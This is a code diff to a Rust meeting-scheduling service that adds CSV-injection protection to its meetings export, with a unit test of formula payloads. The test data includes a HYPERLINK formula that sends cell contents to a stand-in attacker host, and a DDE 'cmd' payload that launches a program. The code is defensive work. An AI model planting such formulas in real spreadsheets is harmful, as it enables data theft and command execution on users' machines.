@@ -10,7 +10,7 @@ use utoipa::{IntoParams, ToSchema};
 use uuid::Uuid;
 
 use crate::domain::model::{Agent, Meeting, MeetingStatus, RoutingTrace};
-use crate::domain::VisitorEmail;
+use crate::domain::EmailAddress;
 use crate::error::{AppError, AppResult, Problems};
 use crate::http::auth::Admin;
 use crate::http::chat::parse_id;
@@ -21,6 +21,21 @@ use crate::usecase::views::AgentBrief;
 use crate::usecase::App;
 
 const CSV_PAGE: u32 = 1000;
+
+/// Leading characters that make a spreadsheet (Excel, LibreOffice, Google Sheets) read a cell as a formula
+/// (or, tab and CR, hide one behind them): `=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)`, `-2+3` (OWASP "CSV
+/// Injection").
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A CSV cell as a spreadsheet must show it: visitors' text is shown, never run, so a cell that would start
+/// a formula gets a leading `'` (API.md). Every cell goes through here, whatever its source.
+fn spreadsheet_safe(cell: String) -> String {
+    if cell.starts_with(FORMULA_STARTS) {
+        format!("'{cell}")
+    } else {
+        cell
+    }
+}
 
 #[derive(Debug, Default, Deserialize, IntoParams)]
 #[into_params(parameter_in = Query)]
@@ -132,7 +147,7 @@ async fn filter_of(app: &App, q: &MeetingsQuery, default_limit: u32) -> AppResul
     }
     if let Some(e) = &q.lead_email {
         f.lead_email = p
-            .check("lead_email", VisitorEmail::parse(e))
+            .check("lead_email", EmailAddress::parse(e))
             .map(|e| e.to_string());
     }
     if let Some(c) = &q.cursor {
@@ -207,6 +222,7 @@ pub async fn meetings_csv(
     f.limit = CSV_PAGE;
     let mut w = csv::Writer::from_writer(Vec::new());
     let csv_err = |e: csv::Error| AppError::Internal(e.into());
+    // The header row is ours and safe; rows go through `spreadsheet_safe`.
     w.write_record([
         "id",
         "team",
@@ -238,7 +254,7 @@ pub async fn meetings_csv(
                 .ok()
                 .and_then(|v| v.as_str().map(str::to_owned))
                 .unwrap_or_default();
-            w.write_record([
+            let row = [
                 m.id.to_string(),
                 m.team_slug.clone(),
                 m.visitor.email.clone(),
@@ -253,8 +269,8 @@ pub async fn meetings_csv(
                 took.to_owned(),
                 step,
                 m.created_at.to_rfc3339(),
-            ])
-            .map_err(csv_err)?;
+            ];
+            w.write_record(row.map(spreadsheet_safe)).map_err(csv_err)?;
         }
         match page.next {
             Some(next) => f.after = Some(next),
@@ -309,4 +325,34 @@ pub async fn patch_meeting(
         .ok_or(AppError::NotFound("meeting"))?;
     let agents = agents_of(&app, std::slice::from_ref(&m)).await?;
     Ok(web::Json(meeting_view(&m, &brief(&agents, m.agent_id))))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn cells_that_would_start_a_formula_are_quoted() {
+        for bad in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1)",
+            "\t=1+2",
+            "\r=1+2",
+        ] {
+            assert_eq!(spreadsheet_safe(bad.to_owned()), format!("'{bad}"));
+        }
+        for fine in [
+            "",
+            "Vera Visitor",
+            "2026-11-23T10:00:00+00:00",
+            "0195f0c2-0000-7000-8000-000000000000",
+            "a=b",
+            "'quoted",
+            " =leading space",
+        ] {
+            assert_eq!(spreadsheet_safe(fine.to_owned()), fine);
+        }
+    }
 }
